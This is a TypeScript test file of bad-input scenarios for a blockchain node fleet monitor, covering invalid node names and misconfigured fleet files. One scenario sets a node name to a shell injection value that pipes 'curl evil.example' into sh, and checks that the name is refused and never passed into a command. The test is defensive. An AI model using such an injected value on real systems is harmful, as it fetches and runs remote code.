// Wrong names and fleet files. Each is refused by name or paged. The rest of the fleet, and the other fleet, keep their health, names and alarms.

import { addressesOf, seenNow } from '../../../../local/scenarios/checks/expectations.ts';
import { pageIn } from '../../../../local/scenarios/report/pages.ts';
import type { Scenario } from '../../../../local/scenarios/scenario.ts';
import { consortium, follower } from '../../../../local/scenarios/world/worlds.ts';
import { VPC_ID } from '../../../../local/services/ec2/service.ts';
import type { Health } from '../../../../shared/fleet/observation.ts';
import {
  type Bad,
  badScenario,
  instanceOf,
  NODES,
  noFunctionFailed,
  pagedOnce,
  pushFleet,
  TESTNET_GENESIS,
  watchOf,
  ZONE,
} from './bad-case.ts';
import type { Check } from './case.ts';

// Names.

const called = (name: string, expect: Readonly<Record<string, Check>>): Bad => ({
  node: { tags: { Name: name } },
  expect: { ...expect, 'no function failed': noFunctionFailed },
});

/** The names were refused before the story began: a page says so once for each onset. */
const refusedOnce =
  (code: string, ...words: readonly RegExp[]): Check =>
  ({ refusals, pages }, { region }) => {
    const [only, another] = refusals;
    const told = region.sns.published().map(pageIn);
    return (
      another === undefined &&
      only?.guardrail === code &&
      words.every((expected) => expected.test(only.reason)) &&
      told.some((page) => page.code === code && page.sentence === only.reason) &&
      pages.every((page) => page.code === code)
    );
  };

const noRecordBut = (...hosts: readonly string[]): Check => {
  const expected = [...hosts, 'pool'].map((host) => `${host}.${ZONE}`).sort();
  return ({ dns }) =>
    dns
      .filter(({ type }) => type === 'A')
      .map(({ name }) => name)
      .sort()
      .join() === expected.join();
};

const names: Readonly<Record<string, Bad>> = {
  'a node’s name is no DNS label': called('Node 2!', {
    'it is refused by its name, once': refusedOnce('name-invalid', /"Node 2!"/, /letters, digits and -/),
    'the others have theirs': noRecordBut('node1', 'node3', 'node4'),
  }),
  'a node’s name is a command for a shell': called('node2; curl evil.example | sh #', {
    'it is refused by its name, once': refusedOnce('name-invalid', /curl evil\.example/),
    'the others have theirs': noRecordBut('node1', 'node3', 'node4'),
    'no command carried it': (_, { region }) =>
      region.gateway.trace.calls
        .filter(({ operation }) => operation === 'SendCommand')
        .every(({ input }) => !JSON.stringify(input).includes('evil')),
  }),
  'a node’s name has as many characters as a tag can have': called('n'.repeat(256), {
    'it is called by its instance’s id instead, in the zone too': (report, world) =>
      noRecordBut('node1', instanceOf(world, 'node2'), 'node3', 'node4')(report, world),
    'nobody was paged': ({ pages }) => pages.length === 0,
  }),
  'a node’s name has more characters than a DNS label': called('n'.repeat(100), {
    'it is refused by its name, once': refusedOnce('name-invalid', /63 at most/),
    'the others have theirs': noRecordBut('node1', 'node3', 'node4'),
  }),
  'a node has no name': called('', {
    'it is called by its instance’s id': (report, world) =>
      noRecordBut('node1', instanceOf(world, 'node2'), 'node3', 'node4')(report, world),
    'nobody was paged': ({ pages }) => pages.length === 0,
  }),
  'a node is called like the pool': called('pool', {
    'it is refused by its name, once': refusedOnce('name-taken', /the pool’s name/),
    'the others have theirs': noRecordBut('node1', 'node3', 'node4'),
  }),
  'a fifth node comes with a name that another has': {
    begins: (world) => world.launch({ ...follower('node5'), tags: { Name: 'node2' } }),
    intoPool: ['node5'],
    expect: {
      'both are refused, each by its id': ({ refusals, pages }, world) =>
        refusals.length > 0 &&
        refusals.every(({ guardrail }) => guardrail === 'name-taken') &&
        pages.length === 2 &&
        ['node2', 'node5'].every((one) =>
          pages.some(({ sentence }) => sentence.startsWith(`${instanceOf(world, one)} is called node2`)),
        ),
      'the record under it is as it was': (_, world) =>
        addressesOf(world, ZONE, 'node2')?.join() === world.find('bitcoin', 'node2').machine.privateIp,
      'no function failed': noFunctionFailed,
    },
  },
};

// What is written in the fleet file.

const all = (health: Health): Readonly<Record<string, Health>> => Object.fromEntries(NODES.map((one) => [one, health]));

/** The other fleet of the account keeps its health, names and alarms. */
const consortiumIsWell: Check = ({ pages, nodes }, world) =>
  nodes.filter(({ fleet }) => fleet === 'irita').length === 4 &&
  world.nodes
    .filter(({ fleet }) => fleet.name === 'irita')
    .every(({ instanceId }) => seenNow(world, instanceId) === 'synced') &&
  world.region.clock.now() - (watchOf(world, 'irita')?.observedAtMs ?? 0) < 2 * 60_000 &&
  pages.every(({ fleet }) => fleet !== 'irita');

const pushed = (change: object | string, told: Omit<Bad, 'also' | 'begins'>): Bad => ({
  ...told,
  also: (world) => void consortium(world),
  begins: (world) => pushFleet(world, change),
  expect: { ...told.expect, 'the other fleet is looked after as ever': consortiumIsWell },
});

const fleetFiles: Readonly<Record<string, Bad>> = {
  'the fleet’s zone does not exist, until a person makes it as the refusal says': {
    zones: 'none',
    begins: ({ region }) =>
      region.call('route53', 'CreateHostedZone', {
        Name: ZONE,
        VPC: { VPCRegion: region.kernel.regionName, VPCId: VPC_ID },
        CallerReference: ZONE,
      }),
    expect: {
      'it is refused once, with the command that makes it': refusedOnce(
        'zone-missing',
        /bitcoin\.internal/,
        /aws route53 create-hosted-zone/,
      ),
      'then its names come': (_, world) =>
        NODES.every((one) => addressesOf(world, ZONE, one)?.join() === world.find('bitcoin', one).machine.privateIp),
      'no function failed': noFunctionFailed,
    },
  },
  'a zone that is spelt wrongly': pushed(
    { dns: { zone: 'bitcion.internal' } },
    {
      expect: {
        'people are told': pagedOnce('zone-missing', 'fleet', /bitcion\.internal/),
        'the records in the other zone are as they were': noRecordBut(...NODES),
        'no function failed': noFunctionFailed,
      },
    },
  ),
  'a file that is no fleet file': pushed('{"fleet": "bitcoin", "mode": "atc"}', {
    expect: {
      'people are told by the suite’s own alarm': ({ pages }) =>
        pages.some(({ sentence }) => sentence.startsWith('chainmend/fleet-file-broken: ')) &&
        pages.every(({ code }) => code === 'suite-alarm'),
      'its records are as they were': noRecordBut(...NODES),
    },
  }),
  'credentials in a parameter that does not exist': pushed(
    { rpc: { credentials: 'ssm:/bitcoin/rpc' } },
    {
      health: all('unknown'),
      expect: {
        'people are told which parameter, and no node is blamed': pagedOnce('cannot-ask', 'fleet', /\/bitcoin\/rpc/),
      },
    },
  ),
  'a probe in another VPC than the nodes’': pushed(
    { probe: { vpc: 'vpc-0fedcba9876543210', subnets: ['subnet-0fedcba9876543210'] } },
    {
      health: all('unknown'),
      expect: {
        'people are told both, and no node is blamed': pagedOnce(
          'cannot-ask',
          'fleet',
          /vpc-0123456789abcdef0.*vpc-0fedcba9876543210/,
        ),
        'no function failed': noFunctionFailed,
      },
    },
  ),
  'an RPC port on which nobody listens': pushed(
    { rpc: { port: 8399 } },
    {
      health: all('unreachable'),
      expect: {
        'people are told once of all nodes, and the port': pagedOnce('node-unreachable', '4 nodes', /:8399 refuses/),
        'no function failed': noFunctionFailed,
      },
    },
  ),
  'the name of another network': pushed(
    { health: { chainId: TESTNET_GENESIS } },
    {
      health: all('forked'),
      expect: {
        'people are told once of all nodes': pagedOnce('wrong-chain', '4 nodes', /the fleet on 000000000933/),
        'no function failed': noFunctionFailed,
      },
    },
  ),
};

const FILES = Object.fromEntries(
  Object.entries(fleetFiles).map(([name, told]) => [told.zones ? name : `a fleet file is pushed with ${name}`, told]),
);

export const SCENARIOS: readonly Scenario[] = Object.entries({ ...names, ...FILES }).map(([name, told]) =>
  badScenario(name, told),
);
